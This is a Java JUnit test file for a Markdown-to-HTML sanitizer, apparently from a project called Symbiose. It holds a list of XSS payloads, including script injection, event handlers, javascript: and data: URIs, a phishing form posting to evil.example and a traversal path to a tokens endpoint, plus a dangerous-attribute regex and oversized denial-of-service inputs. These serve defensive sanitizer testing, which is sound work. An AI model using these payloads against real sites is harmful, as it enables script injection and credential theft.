package org.symbiose.core.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Set;
import java.util.concurrent.FutureTask;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.symbiose.api.content.InvalidItemException;

class MarkdownRendererTest {

    private static final Set<String> ALLOWED_TAGS = Set.of("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
            "blockquote", "pre", "code", "em", "strong", "del", "s", "sub", "sup", "ul", "ol", "li", "table",
            "thead", "tbody", "tr", "th", "td", "a", "img");
    // Text is escaped by the sanitizer, so every '<' left in its output opens a real tag.
    private static final Pattern TAG = Pattern.compile("<(/?)([a-zA-Z0-9]+)([^>]*)>");
    private static final Pattern DANGEROUS_ATTRIBUTE = Pattern.compile(
            "(?i)\\son[a-z]+\\s*=|\\sstyle\\s*=|javascript:|vbscript:|data:|\\s(?:src|href)\\s*=\\s*\"(?!https?:|mailto:|/|#)");

    private final MarkdownRenderer renderer = new MarkdownRenderer();

    @ParameterizedTest
    @ValueSource(strings = {
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://example.org/a.png\" onload=\"alert(1)\">",
            "[click](javascript:alert(1))",
            "[click](JaVaScRiPt:alert(1))",
            "[click](jav&#x09;ascript:alert(1))",
            "[click](&#106;avascript:alert(1))",
            "<javascript:alert(1)>",
            "[click](vbscript:msgbox(1))",
            "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "![pixel](javascript:alert(1))",
            "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
            "![pixel](mailto:someone@example.org)",
            "<a href=\"javascript:alert(1)\">raw link</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
            "<div style=\"background:url(javascript:alert(1))\">styled</div>",
            "<p style=\"width: expression(alert(1))\">old IE</p>",
            "<style>body { background: url(javascript:alert(1)) }</style>",
            "<svg onload=alert(1)><circle r=\"1\"/></svg>",
            "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
            "<form action=\"https://evil.example\"><input name=\"password\"><button>Go</button></form>",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<base href=\"https://evil.example/\">",
            "<p onclick=\"alert(1)\">click me</p>",
            "<a href=\"https://example.org\" onmouseover=\"alert(1)\" style=\"position:fixed\">hover</a>",
            "<details open ontoggle=alert(1)>",
            "<img src=`javascript:alert(1)`>",
            "<<script>script>alert(1)<</script>/script>",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "`<script>alert(1)</script>`",
            "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
            "<!-- --><script>alert(1)</script><!-- -->",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    })
    void leavesNoScriptBehind(String markdown) {
        String html = renderer.toHtml(markdown);

        Matcher tags = TAG.matcher(html);
        while (tags.find()) {
            assertThat(ALLOWED_TAGS).as("tag in %s", html).contains(tags.group(2).toLowerCase());
            assertThat(tags.group(3)).as("attributes in %s", html).doesNotContainPattern(DANGEROUS_ATTRIBUTE);
        }
        assertThat(html.toLowerCase()).doesNotContain("<script");
    }

    @Test
    void rendersFormatting() {
        assertThat(renderer.toHtml("# Title\n\nSome *emphasis*, **strength** and `code`.\n\n> quoted"))
                .isEqualTo("<h1>Title</h1>\n<p>Some <em>emphasis</em>, <strong>strength</strong> and <code>code</code>.</p>\n"
                        + "<blockquote>\n<p>quoted</p>\n</blockquote>\n");
    }

    @Test
    void linksNeitherFollowNorOpen() {
        String html = renderer.toHtml("[site](https://example.org \"Example\") [mail](mailto:a@example.org) [page](/t/1)");

        // the sanitizer writes the two rels in no fixed order
        assertThat(html.replace("rel=\"noopener nofollow\"", "rel=\"nofollow noopener\""))
                .isEqualTo("<p><a href=\"https://example.org\" title=\"Example\" rel=\"nofollow noopener\">site</a> "
                        + "<a href=\"mailto:a&#64;example.org\" rel=\"nofollow noopener\">mail</a> "
                        + "<a href=\"/t/1\" rel=\"nofollow noopener\">page</a></p>\n");
    }

    @Test
    void keepsImagesFromTheWebAndOurUploadedFilesOnly() {
        assertThat(renderer.toHtml("![a cat](https://example.org/cat.png) ![local](/cat.png)"))
                .isEqualTo("<p><img src=\"https://example.org/cat.png\" alt=\"a cat\" /> </p>\n");
        assertThat(renderer.toHtml("![uploaded](/api/v1/files/123?key=Ab0_-cdefghijklmnopqrs)"))
                .as("the sanitizer writes = as a character reference, which browsers read as =")
                .isEqualTo("<p><img src=\"/api/v1/files/123?key&#61;Ab0_-cdefghijklmnopqrs\" alt=\"uploaded\" /></p>\n");
        assertThat(renderer.toHtml("![a](/api/v1/files/123/../../me/tokens) ![b](/api/v1/files/1?x) "
                + "![c](javascript:alert(1)) ![d](//evil.example/api/v1/files/1) ![e](data:image/png;base64,AAAA) "
                + "![f](/api/v1/files/123) ![g](/api/v1/files/1?key=Ab0_-cdefghijklmnopqr) "
                + "![h](/api/v1/files/1?key=Ab0_-cdefghijklmnopqrst) ![i](/api/v1/files/1?key=Ab0_-cdefghijklmnopqr%25) "
                + "![j](/api/v1/files/1?key=Ab0_-cdefghijklmnopqrs&me=1) ![k](/API/V1/FILES/1?KEY=Ab0_-cdefghijklmnopqrs)"))
                .doesNotContain("<img");
    }

    @Test
    void rendersListsCodeAndTables() {
        String html = renderer.toHtml("3. three\n4. four\n\n- dot\n\n```java\nif (a < b) {}\n```\n\n"
                + "| left | right |\n|:-----|------:|\n| 1 | 2 |");

        assertThat(html).contains("<ol start=\"3\"><li>three</li><li>four</li></ol>", "<ul><li>dot</li></ul>",
                "<pre><code class=\"language-java\">if (a &lt; b) {}\n</code></pre>",
                "<th align=\"left\">left</th>", "<td align=\"right\">2</td>");
    }

    @Test
    void keepsHarmlessRawHtml() {
        assertThat(renderer.toHtml("H<sub>2</sub>O is <del>not</del> <strong>water</strong>"))
                .isEqualTo("<p>H<sub>2</sub>O is <del>not</del> <strong>water</strong></p>\n");
    }

    @Test
    void refusesAWideTableBeforeItFillsMemory() {
        // every row is padded to the header's 1,000 columns: some 50 million cells
        StringBuilder markdown = new StringBuilder(table(1000, 0));
        while (markdown.length() < 99_000) {
            markdown.append("x\n");
        }

        assertThat(Duration.ofMillis(timeToRefuse(markdown.toString()))).isLessThan(Duration.ofSeconds(1));
    }

    @Test
    void rendersTablesUpToAThousandCells() {
        String markdown = table(20, 49);

        assertThat(renderer.toHtml(markdown)).contains("<table>", "<td>x</td></tr></tbody></table>");
        assertThatThrownBy(() -> renderer.toHtml(markdown + "| x |\n"))
                .isInstanceOfSatisfying(InvalidItemException.class, e -> assertThat(e.field()).isEqualTo("body"));
    }

    @Test
    void rendersPipesInLongTextThatIsNoTable() {
        String markdown = "a | b ".repeat(200) + "\n" + "one more line\n".repeat(5_000);

        assertThat(renderer.toHtml(markdown)).startsWith("<p>a | b a | b").doesNotContain("<table>");
    }

    @Test
    void refusesAHundredThousandUnclosedAngleBracketsQuickly() {
        // each '<' is parsed as the start of a tag it never finishes, then escaped to four characters
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> assertThatThrownBy(
                () -> renderer.toHtml("<".repeat(100_000)))
                .isInstanceOfSatisfying(InvalidItemException.class, e -> assertThat(e.field()).isEqualTo("body")));
    }

    @Test
    void refusesMarkdownThatRendersTooMuchHtml() {
        String markdown = "[a]: https://example.org/" + "x".repeat(5_000) + "\n\n" + "[a] ".repeat(20_000);

        assertThat(Duration.ofMillis(timeToRefuse(markdown))).isLessThan(Duration.ofSeconds(1));
    }

    @Test
    void rendersNestingPastTheLimitsAsTextWithinHalfTheDefaultStack() throws Exception {
        // nothing catches StackOverflowError any more: the limits must keep the renderers' recursion shallow
        FutureTask<String> render = new FutureTask<>(
                () -> renderer.toHtml("> ".repeat(100) + "*a ".repeat(20_000) + " a*".repeat(20_000)));
        Thread thread = new Thread(null, render, "half-stack", 512 * 1024);
        thread.start();

        String html = render.get();
        assertThat(Pattern.compile("<blockquote>").matcher(html).results()).hasSize(32);
        assertThat(Pattern.compile("<em>").matcher(html).results()).hasSize(100);
        assertThat(html).contains("*a *a ");
    }

    @Test
    void rendersDeepBlockNestingAsText() {
        assertThat(renderer.toHtml("> ".repeat(10_000) + "deep")).startsWith("<blockquote>").contains("deep");
    }

    /** A table of {@code columns} x's wide, under a header, {@code rows} rows long. */
    private static String table(int columns, int rows) {
        return "| a ".repeat(columns) + "|\n" + "|---".repeat(columns) + "|\n"
                + ("| x ".repeat(columns) + "|\n").repeat(rows);
    }

    private long timeToRefuse(String markdown) {
        long start = System.nanoTime();
        assertThatThrownBy(() -> renderer.toHtml(markdown))
                .isInstanceOfSatisfying(InvalidItemException.class, e -> assertThat(e.field()).isEqualTo("body"));
        return (System.nanoTime() - start) / 1_000_000;
    }
}
